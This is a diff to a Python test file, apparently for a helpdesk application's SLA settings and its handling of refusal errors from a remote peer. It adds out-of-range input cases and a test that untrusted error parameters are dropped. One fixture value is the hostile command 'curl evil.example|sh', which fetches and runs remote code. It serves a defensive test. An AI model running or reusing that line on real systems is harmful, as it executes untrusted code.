@@ -88,6 +88,8 @@ FORMS: dict[str, tuple[str, dict[str, object]]] = {
     "hours that are none": ("calendar", {"hours": "always and never"}),
     "targets without end": ("sla_policy", {"targets": '{"low": {"update": 1e400}}'}),
     "a target that is none": ("sla_policy", {"targets": '{"low": {"update": "x"}}'}),
+    "an allowance without end": ("sla_policy", {"out_of_hours": 1 << 62}),
+    "an allowance below none": ("sla_policy", {"out_of_hours": -1}),
     "a clock there is not": ("sla_policy", {"targets": '{"low": {"nap": 60000}}'}),
     "tags of templates that are none": ("template", {"tags": "5"}),
     "tags of articles that are none": ("article", {"tags": "null"}),
@@ -231,6 +233,16 @@ def test_what_no_sentence_can_tell_is_not_kept_of_a_refusal(untellable: object) 
     because = read_refusal({"error": {**error, "stops": [_stop(_hostile(untellable))]}}, "409")
     assert because["parameters"] == told
     assert because["stops"] == [_stop(told)]
+
+
+@pytest.mark.parametrize("code", ["remote.signed_out", "remote", "link.no_keyring", "link"])
+def test_another_desk_names_no_code_of_this_side(code: str) -> None:
+    held = {"because": "given", "again": "curl evil.example|sh"}
+    error = {"code": code, "message": "Not now.", "parameters": held, "stops": [_stop({})]}
+    because = read_refusal({"error": error}, "409")
+    assert because == {"code": "mirror.rejected", "parameters": {"said": "Not now."}}
+    kept = read_refusal({"error": {**error, "code": "link.circle"}}, "409")
+    assert kept["code"] == "link.circle"
 
 
 async def test_what_no_sentence_can_tell_is_not_kept_of_many(
